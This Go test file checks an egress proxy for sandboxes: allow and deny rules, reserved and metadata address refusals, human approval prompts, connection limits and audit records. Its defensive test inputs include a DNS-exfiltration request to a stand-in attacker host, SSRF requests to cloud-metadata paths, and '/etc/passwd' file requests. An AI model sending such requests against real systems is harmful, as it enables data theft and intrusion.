package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/paddockhq/paddock/internal/await"
)

// fixed resolves names from a table, as a DNS server that lies would.
type fixed map[string][]netip.Addr

func (f fixed) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := f[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

type proxied struct {
	p       *Proxy
	addr    string
	url     *url.URL
	mu      sync.Mutex
	records []Record
	asked   []string
	more    chan struct{} // gets a value at each record
}

func (x *proxied) recs() []Record {
	x.mu.Lock()
	defer x.mu.Unlock()
	return append([]Record(nil), x.records...)
}

// wait waits for n records in all: a tunnel's comes at its end, after its client has read.
func (x *proxied) wait(n int) []Record {
	for {
		if r := x.recs(); len(r) >= n {
			return r
		}
		<-x.more
	}
}

// startProxy serves a proxy on loopback with cfg (its Record and a token filled in).
func startProxy(t testing.TB, cfg Config) *proxied {
	t.Helper()
	x := &proxied{more: make(chan struct{}, 1<<16)}
	cfg.Token = "s3cret"
	cfg.Record = func(r Record) {
		x.mu.Lock()
		x.records = append(x.records, r)
		x.mu.Unlock()
		x.more <- struct{}{}
	}
	if ask := cfg.Ask; ask != nil {
		cfg.Ask = func(ctx context.Context, tg Target) Answer {
			x.mu.Lock()
			x.asked = append(x.asked, tg.String())
			x.mu.Unlock()
			return ask(ctx, tg)
		}
	}
	x.p = New(cfg)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	x.addr = l.Addr().String()
	x.url, _ = url.Parse(URL(x.addr, cfg.Token))
	done := make(chan error, 1)
	go func() { done <- x.p.Serve(l) }()
	t.Cleanup(func() {
		x.p.Close()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
	return x
}

func (x *proxied) client(tlsConf *tls.Config) *http.Client {
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(x.url), TLSClientConfig: tlsConf, DisableKeepAlives: true}}
}

func hostPort(t testing.TB, u string) string {
	t.Helper()
	p, err := url.Parse(u)
	if err != nil {
		t.Fatal(err)
	}
	return p.Host
}

func hello(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Proxy-Authorization") != "" {
		http.Error(w, "the proxy's token reached the server", 500)
		return
	}
	fmt.Fprint(w, "hello "+r.URL.Path)
}

func get(t testing.TB, c *http.Client, u string) (int, string, string) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		return 0, err.Error(), ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header.Get("X-Paddock-Refusal")
}

func TestProxyAllowedByAddress(t *testing.T) {
	plain := httptest.NewServer(http.HandlerFunc(hello))
	defer plain.Close()
	secure := httptest.NewTLSServer(http.HandlerFunc(hello))
	defer secure.Close()
	x := startProxy(t, Config{Allow: mustRules(t, hostPort(t, plain.URL), hostPort(t, secure.URL))})
	c := x.client(&tls.Config{RootCAs: secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs})
	if code, body, _ := get(t, c, plain.URL+"/a"); code != 200 || body != "hello /a" {
		t.Fatalf("plain: %d %q", code, body)
	}
	if code, body, _ := get(t, c, secure.URL+"/b"); code != 200 || body != "hello /b" {
		t.Fatalf("tls: %d %q", code, body)
	}
	recs := x.wait(2)
	if len(recs) != 2 {
		t.Fatalf("records: %+v", recs)
	}
	for _, r := range recs {
		if r.Verdict != "allowed" || r.DecidedBy != "allow_rule" || r.Sent == 0 || r.Received == 0 || r.Addr == "" {
			t.Errorf("record: %+v", r)
		}
	}
	if recs[0].Method != "GET" || recs[1].Method != "CONNECT" {
		t.Errorf("methods: %s %s", recs[0].Method, recs[1].Method)
	}
}

func TestProxyRefusals(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(hello))
	defer srv.Close()
	port := hostPort(t, srv.URL)[len("127.0.0.1:"):]
	res := fixed{
		"metadata.test": {netip.MustParseAddr("169.254.169.254")},
		"inside.test":   {netip.MustParseAddr("10.1.2.3")},
		"loop.test":     {netip.MustParseAddr("127.0.0.1")},
		"mixed.test":    {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("192.168.0.1")},
		"public.test":   {netip.MustParseAddr("1.2.3.4")},
	}
	var dialled []string
	var mu sync.Mutex
	x := startProxy(t, Config{
		Allow:    mustRules(t, "metadata.test", "inside.test", "loop.test:"+port, "mixed.test", "public.test", "denied.test"),
		Deny:     mustRules(t, "denied.test", "1.2.3.4"),
		Resolver: res,
		Dial: func(ctx context.Context, n, a string) (net.Conn, error) {
			mu.Lock()
			dialled = append(dialled, a)
			mu.Unlock()
			return (&net.Dialer{}).DialContext(ctx, n, a)
		},
	})
	c := x.client(nil)
	for _, tc := range []struct{ url, code string }{
		{"http://metadata.test/latest/meta-data", "reserved_address"},
		{"http://inside.test/", "reserved_address"},
		{"http://loop.test:" + port + "/", "reserved_address"}, // the name is allowed, the address it resolves to is not named
		{"http://mixed.test/", "reserved_address"},
		{"http://public.test/", "denied_address"},
		{"http://denied.test/", "net_denied"},
		{"http://unlisted.test/", "unanswered"}, // nobody to ask
		{"http://169.254.169.254/", "unanswered"},
		{srv.URL + "/", "unanswered"},
	} {
		code, body, refusal := get(t, c, tc.url)
		if code != http.StatusForbidden || refusal != tc.code {
			t.Errorf("%s: %d %s %q, want 403 %s", tc.url, code, refusal, body, tc.code)
		}
	}
	if len(dialled) != 0 {
		t.Errorf("dialled %v for refused connections", dialled)
	}
	if n := len(x.wait(9)); n != 9 {
		t.Errorf("%d records for 9 refusals", n)
	}
}

// A name nobody allowed reaches no resolver: a question does not send it out.
func TestProxyAskResolvesNothing(t *testing.T) {
	var looked []string
	res := resolverFunc(func(h string) { looked = append(looked, h) })
	x := startProxy(t, Config{Resolver: res, Ask: func(context.Context, Target) Answer {
		return Answer{Code: "denied", Outcome: "denied", By: "alice"}
	}})
	c := x.client(nil)
	if code, _, refusal := get(t, c, "http://exfil-c2VjcmV0.attacker.test/"); code != 403 || refusal != "denied" {
		t.Fatalf("%d %s", code, refusal)
	}
	if len(looked) != 0 {
		t.Fatalf("resolved %v before a yes", looked)
	}
	r := x.wait(1)[0]
	if r.DecidedBy != "denied" || r.By != "alice" || r.Verdict != "refused" {
		t.Fatalf("record %+v", r)
	}
}

type resolverFunc func(string)

func (f resolverFunc) LookupNetIP(_ context.Context, _, h string) ([]netip.Addr, error) {
	f(h)
	return nil, &net.DNSError{Err: "no such host", Name: h}
}

func TestProxyAsks(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(hello))
	defer srv.Close()
	answers := make(chan Answer, 10)
	x := startProxy(t, Config{
		Allow: mustRules(t, "127.0.0.0/8"), // the address may be dialled once allowed: the test server is on loopback
		Ask:   func(context.Context, Target) Answer { return <-answers },
	})
	// Allowing 127.0.0.0/8 by range allows the literal target too; ask by name instead.
	x.p.cfg.Resolver = fixed{"site.test": {netip.MustParseAddr("127.0.0.1")}}
	port := hostPort(t, srv.URL)[len("127.0.0.1:"):]
	u := "http://site.test:" + port + "/x"
	c := x.client(nil)
	answers <- Answer{Code: "denied", Outcome: "denied"}
	if code, _, refusal := get(t, c, u); code != 403 || refusal != "denied" {
		t.Fatalf("no: %d %s", code, refusal)
	}
	answers <- Answer{Run: true, Outcome: "approved"}
	if code, body, _ := get(t, c, u); code != 200 || body != "hello /x" {
		t.Fatalf("yes: %d %q", code, body)
	}
	answers <- Answer{Run: true, ForSession: true, Outcome: "approved"}
	for range 3 {
		if code, _, _ := get(t, c, u); code != 200 {
			t.Fatalf("always: %d", code)
		}
	}
	if n := len(x.asked); n != 3 {
		t.Fatalf("asked %d times, want 3 (always for the session asks no more): %v", n, x.asked)
	}
	recs := x.wait(5)
	if last := recs[len(recs)-1]; last.DecidedBy != "session" {
		t.Fatalf("last record %+v", last)
	}
}

// A person's yes is not enough for an address nobody named: a name answered yes that
// resolves to a loopback, private or metadata address is refused all the same, for the
// session too.
func TestProxyYesDoesNotOpenReserved(t *testing.T) {
	t.Parallel()
	x := startProxy(t, Config{
		Ask: func(context.Context, Target) Answer { return Answer{Run: true, ForSession: true, Outcome: "approved"} },
	})
	x.p.cfg.Resolver = fixed{
		"loop.test":     {netip.MustParseAddr("127.0.0.1")},
		"inside.test":   {netip.MustParseAddr("10.1.2.3")},
		"metadata.test": {netip.MustParseAddr("169.254.169.254")},
	}
	c := x.client(nil)
	for _, u := range []string{"http://loop.test/", "http://inside.test/", "http://metadata.test/latest/", "http://loop.test/again"} {
		if code, _, refusal := get(t, c, u); code != 403 || refusal != "reserved_address" {
			t.Errorf("%s answered yes: %d %s, want 403 reserved_address", u, code, refusal)
		}
	}
}

// Many connections to one new target at once raise one question, its answer shared.
func TestProxyOneQuestionPerTarget(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(hello))
	defer srv.Close()
	release := make(chan struct{})
	x := startProxy(t, Config{
		Allow:    mustRules(t, "127.0.0.0/8"),
		Resolver: fixed{"site.test": {netip.MustParseAddr("127.0.0.1")}},
		Ask: func(context.Context, Target) Answer {
			<-release
			return Answer{Run: true, Outcome: "approved"}
		},
	})
	port := hostPort(t, srv.URL)[len("127.0.0.1:"):]
	c := x.client(nil)
	var wg sync.WaitGroup
	codes := make(chan int, 8)
	for range 8 {
		wg.Go(func() {
			code, _, _ := get(t, c, "http://site.test:"+port+"/")
			codes <- code
		})
	}
	// Every request is waiting once 8 handlers are in: the question is open.
	for {
		x.mu.Lock()
		n := len(x.asked)
		x.mu.Unlock()
		if n > 0 {
			break
		}
		runtime.Gosched()
	}
	close(release)
	wg.Wait()
	close(codes)
	for c := range codes {
		if c != 200 {
			t.Fatalf("code %d", c)
		}
	}
	if len(x.asked) > 8 || len(x.asked) < 1 {
		t.Fatalf("asked %d", len(x.asked))
	}
}

// raw sends bytes to the proxy and returns what it answered before closing.
func raw(t testing.TB, addr, req string) string {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	go func() { io.WriteString(c, req); c.(*net.TCPConn).CloseWrite() }()
	b, _ := io.ReadAll(c)
	return string(b)
}

const auth = "Proxy-Authorization: Basic cGFkZG9jazpzM2NyZXQ=\r\n" // paddock:s3cret

func TestProxyBadInput(t *testing.T) {
	x := startProxy(t, Config{Allow: mustRules(t, "127.0.0.1")})
	cases := []struct{ name, req, want string }{
		{"garbage", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage\r\n\r\n", "400"},
		{"no token", "CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n", "407"},
		{"wrong token", "CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 127.0.0.1:1\r\nProxy-Authorization: Basic cGFkZG9jazp4\r\n\r\n", "407"},
		{"port 0", "CONNECT 127.0.0.1:0 HTTP/1.1\r\nHost: 127.0.0.1:0\r\n" + auth + "\r\n", "bad_target"},
		{"no port", "CONNECT example.com HTTP/1.1\r\nHost: example.com\r\n" + auth + "\r\n", "400"},
		{"origin form", "GET /etc/passwd HTTP/1.1\r\nHost: 127.0.0.1\r\n" + auth + "\r\n", "bad_request"},
		{"https absolute", "GET https://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n" + auth + "\r\n", "bad_request"},
		{"file url", "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n" + auth + "\r\n", "bad_request"},
		{"zone", "CONNECT [fe80::1%25lo]:80 HTTP/1.1\r\nHost: [fe80::1%25lo]:80\r\n" + auth + "\r\n", "400"},
		{"huge header", "CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 127.0.0.1:1\r\nX-Big: " + strings.Repeat("a", 10<<20) + "\r\n\r\n", "431"},
		{"half a head", "CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 1", "400"}, // then the end of its input
		{"long method", strings.Repeat("G", 60<<10) + " http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n" + auth + "\r\n", "bad_method"},
		{"upgrade", "GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: 127.0.0.1:1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" + auth + "\r\n", "upgrade_refused"},
		{"nothing", "", ""},
	}
	for _, tc := range cases {
		got := raw(t, x.addr, tc.req)
		if !strings.Contains(got, tc.want) {
			t.Errorf("%s: got %.200q, want %s", tc.name, got, tc.want)
		}
	}
	// law: every_verdict_recorded — each of them is a record, refused, what it sent clipped.
	for _, r := range x.wait(len(cases)) {
		if r.Verdict != "refused" || len(r.Method) > 20 || len(r.Target) > 310 {
			t.Errorf("record %.300v", r)
		}
	}
	// The proxy still serves.
	srv := httptest.NewServer(http.HandlerFunc(hello))
	defer srv.Close()
	if code, _, _ := get(t, x.client(nil), srv.URL+"/"); code != 200 {
		t.Fatalf("after bad input: %d", code)
	}
}

func openFDs(t testing.TB) int {
	es, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Skip("no /proc/self/fd")
	}
	return len(es)
}

// settle waits for the goroutines and descriptors the test made to end. Nothing announces
// their end: a bounded poll.
func settle(t *testing.T, goroutines, fds int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	var g, f int
	if err := await.Poll(ctx, 5*time.Millisecond, func() bool {
		g, f = runtime.NumGoroutine(), openFDs(t)
		return g <= goroutines && f <= fds
	}); err != nil {
		t.Fatalf("leaked: %d goroutines (began with %d), %d descriptors (began with %d)", g, goroutines, f, fds)
	}
}

// law: egress_no_leak — a thousand tunnels at once, some half-open, closed by either side or
// by the proxy's end, leave no goroutine and no descriptor behind.
func TestProxyThousandTunnelsLeakNothing(t *testing.T) {
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var ew sync.WaitGroup
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			ew.Go(func() { io.Copy(c, c); c.Close() })
		}
	}()
	g0, f0 := runtime.NumGoroutine(), openFDs(t)
	x := New(Config{Allow: mustRules(t, echo.Addr().String())})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan struct{})
	go func() { x.Serve(l); close(served) }()
	const n = 1000
	conns := make([]net.Conn, n)
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for i := range n {
		wg.Go(func() {
			c, err := net.Dial("tcp", l.Addr().String())
			if err != nil {
				errs <- err
				return
			}
			conns[i] = c
			fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", echo.Addr())
			br := bufio.NewReader(c)
			resp, err := http.ReadResponse(br, nil)
			if err != nil || resp.StatusCode != 200 {
				errs <- fmt.Errorf("connect: %v %v", resp, err)
				return
			}
			fmt.Fprintf(c, "ping %d\n", i)
			line, err := br.ReadString('\n')
			if err != nil || line != fmt.Sprintf("ping %d\n", i) {
				errs <- fmt.Errorf("echo: %q %v", line, err)
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if got := x.Open(); got != n {
		t.Fatalf("%d open, want %d", got, n)
	}
	// A third close, a third half-close and wait for the echo's end, a third left to the
	// proxy's Close.
	for i, c := range conns {
		switch i % 3 {
		case 0:
			c.Close()
		case 1:
			c.(*net.TCPConn).CloseWrite()
			io.ReadAll(c)
			c.Close()
		}
	}
	x.Close()
	<-served
	for i, c := range conns {
		if i%3 == 2 {
			io.ReadAll(c) // the proxy closed it
			c.Close()
		}
	}
	echo.Close()
	ew.Wait()
	if got := x.Open(); got != 0 {
		t.Fatalf("%d still open", got)
	}
	settle(t, g0, f0)
}

// A connection that never sends its head is closed when the proxy ends, and holds no
// question or dial.
func TestProxyHalfOpenClosedAtEnd(t *testing.T) {
	x := New(Config{})
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	served := make(chan struct{})
	go func() { x.Serve(l); close(served) }()
	c, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(c, "CONNECT 127.0.0.1:1 HTTP/1.1\r\n")
	x.Close()
	<-served
	if b, _ := io.ReadAll(c); len(b) != 0 {
		t.Fatalf("answered %q", b)
	}
}

// law: egress_conns_bounded — however many connections a sandbox opens at once, the proxy
// holds at most MaxConns of them: the target never sees more at once, and every one gets
// through once others end.
func TestProxyBoundsConnections(t *testing.T) {
	t.Parallel()
	const bound, clients = 4, 12
	echo := startCountingEcho(t)
	x := startProxy(t, Config{Allow: mustRules(t, echo.l.Addr().String()), Limits: NewLimits(bound, 0, 0)})
	var wg sync.WaitGroup
	for i := range clients {
		wg.Go(func() {
			c, err := net.Dial("tcp", x.addr)
			if err != nil {
				t.Error(err)
				return
			}
			defer c.Close()
			auth := base64.StdEncoding.EncodeToString([]byte(User + ":s3cret"))
			fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %[1]s\r\nProxy-Authorization: Basic %s\r\n\r\n", echo.l.Addr(), auth)
			br := bufio.NewReader(c)
			resp, err := http.ReadResponse(br, nil)
			if err != nil || resp.StatusCode != 200 {
				t.Errorf("client %d: %v %v", i, resp, err)
				return
			}
			fmt.Fprintf(c, "ping %d\n", i)
			c.(*net.TCPConn).CloseWrite()
			if rest, err := io.ReadAll(br); err != nil || string(rest) != fmt.Sprintf("ping %d\n", i) {
				t.Errorf("client %d: %q %v", i, rest, err)
			}
		})
	}
	wg.Wait()
	if most := echo.most(); most > bound {
		t.Errorf("the target saw %d connections at once through a proxy bound to %d", most, bound)
	}
}

// law: egress_questions_bounded — a sandbox that asks for many new targets at once puts at
// most MaxQuestions to the person; the rest are refused as busy at once, not queued.
func TestProxyBoundsQuestions(t *testing.T) {
	t.Parallel()
	const bound, targets = 3, 10
	release := make(chan struct{})
	asked := make(chan string, targets)
	x := startProxy(t, Config{Limits: NewLimits(0, bound, 0), Ask: func(_ context.Context, tg Target) Answer {
		asked <- tg.String()
		<-release
		return Answer{Code: "denied", Outcome: "denied"}
	}})
	c := x.client(nil)
	codes := make(chan string, targets)
	for i := range targets {
		go func() {
			_, _, refusal := get(t, c, fmt.Sprintf("http://host%d.test/", i))
			codes <- refusal
		}()
	}
	busy := 0
	for range targets - bound {
		if code := <-codes; code == "busy" {
			busy++
		} else {
			t.Errorf("a question past the bound: %q, want busy", code)
		}
	}
	close(release)
	for range bound {
		if code := <-codes; code != "denied" {
			t.Errorf("a question within the bound: %q, want denied", code)
		}
	}
	if n := len(asked); n != bound || busy != targets-bound {
		t.Errorf("asked %d, busy %d; want %d and %d", n, busy, bound, targets-bound)
	}
}

// A plain-HTTP request that reached its target is recorded as allowed with every byte it
// carried, whatever the target answered (garbage here): a target cannot hide what it was
// sent by failing after reading it.
func TestProxyRecordsWhatFailedUpstreamCarried(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	const body = 1 << 20
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		br := bufio.NewReader(c)
		req, err := http.ReadRequest(br)
		if err == nil {
			io.Copy(io.Discard, req.Body)
		}
		io.WriteString(c, "not HTTP at all\r\n\r\n")
	}()
	x := startProxy(t, Config{Allow: mustRules(t, l.Addr().String())})
	resp, err := x.client(nil).Post("http://"+l.Addr().String()+"/", "application/octet-stream", strings.NewReader(strings.Repeat("x", body)))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 502 || resp.Header.Get("X-Paddock-Refusal") != "upstream_failed" {
		t.Errorf("the sandbox was told %d %q", resp.StatusCode, resp.Header.Get("X-Paddock-Refusal"))
	}
	r := x.wait(1)[0]
	if r.Verdict != "allowed" || r.Code != "upstream_failed" || r.Sent < body {
		t.Errorf("record %+v, want allowed, upstream_failed, at least %d bytes sent", r, body)
	}
}

// Close ends every request the proxy serves, a plain-HTTP one waiting on a target that
// never answers too, and returns only once each is recorded: a session's audit closes
// after its proxy with nothing left to come.
func TestProxyCloseWaitsForRequests(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	accepted := make(chan net.Conn, 1)
	go func() {
		if c, err := l.Accept(); err == nil {
			accepted <- c // and never answered
		}
	}()
	var mu sync.Mutex
	var recs []Record
	p := New(Config{Allow: mustRules(t, l.Addr().String()), Record: func(r Record) {
		mu.Lock()
		recs = append(recs, r)
		mu.Unlock()
	}})
	pl, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go p.Serve(pl)
	c, err := net.Dial("tcp", pl.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET http://%s/ HTTP/1.1\r\nHost: %[1]s\r\n\r\n", l.Addr())
	up := <-accepted
	defer up.Close()
	// The request has reached the target, which waits, once its head is read there (the
	// target's accept alone comes before the proxy's dial has returned).
	if _, err := http.ReadRequest(bufio.NewReader(up)); err != nil {
		t.Fatal(err)
	}
	p.Close()
	mu.Lock()
	defer mu.Unlock()
	if len(recs) != 1 || recs[0].Verdict != "allowed" {
		t.Errorf("records once Close returned: %+v", recs)
	}
}

// law: egress_conns_bounded, across a session tree — proxies that share Limits hold their
// bound together: two sandboxes' proxies never reach the target with more than it at once.
func TestProxyLimitsShared(t *testing.T) {
	t.Parallel()
	const bound = 3
	echo := startCountingEcho(t)
	lim := NewLimits(bound, 0, 0)
	a := startProxy(t, Config{Allow: mustRules(t, echo.l.Addr().String()), Limits: lim})
	b := startProxy(t, Config{Allow: mustRules(t, echo.l.Addr().String()), Limits: lim})
	var wg sync.WaitGroup
	for i := range 10 {
		addr := []string{a.addr, b.addr}[i%2]
		wg.Go(func() {
			c, err := net.Dial("tcp", addr)
			if err != nil {
				t.Error(err)
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %[1]s\r\n%s\r\n", echo.l.Addr(), auth)
			br := bufio.NewReader(c)
			if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != 200 {
				t.Errorf("%v %v", resp, err)
				return
			}
			fmt.Fprintf(c, "ping %d\n", i)
			c.(*net.TCPConn).CloseWrite()
			io.ReadAll(br) // to the end the target's close brings
		})
	}
	wg.Wait()
	if most := echo.most(); most > bound {
		t.Errorf("the target saw %d at once through two proxies sharing a bound of %d", most, bound)
	}
}

// The host's own addresses are reached only when named by address, even when global: a
// name that resolves to one, answered yes, is refused.
func TestProxyOwnAddressesReserved(t *testing.T) {
	t.Parallel()
	own := netip.MustParseAddr("8.8.4.4") // a global address, standing for the host's public one
	x := startProxy(t, Config{Own: []netip.Addr{own},
		Ask: func(context.Context, Target) Answer { return Answer{Run: true, Outcome: "approved"} }})
	x.p.cfg.Resolver = fixed{"self.test": {own}}
	if code, _, refusal := get(t, x.client(nil), "http://self.test/"); code != 403 || refusal != "reserved_address" {
		t.Errorf("the host's own address through a name: %d %s", code, refusal)
	}
	if r := DialableFrom(mustRules(t, "8.8.4.4:80"), nil, []netip.Addr{own}, own, 80); r != "" {
		t.Errorf("named by address, the host's own address is %q", r)
	}
}

// countingEcho is an echo server that counts the connections it holds at once.
type countingEcho struct {
	l net.Listener

	mu       sync.Mutex
	now, top int // guarded by mu
}

func startCountingEcho(t *testing.T) *countingEcho {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &countingEcho{l: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			e.mu.Lock()
			e.now++
			e.top = max(e.top, e.now)
			e.mu.Unlock()
			go func() {
				io.Copy(c, c)
				// Counted out before the close the tunnel ends on, and so before the slot it
				// held is free.
				e.mu.Lock()
				e.now--
				e.mu.Unlock()
				c.Close()
			}()
		}
	}()
	return e
}

// most is the most connections it held at once.
func (e *countingEcho) most() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.top
}
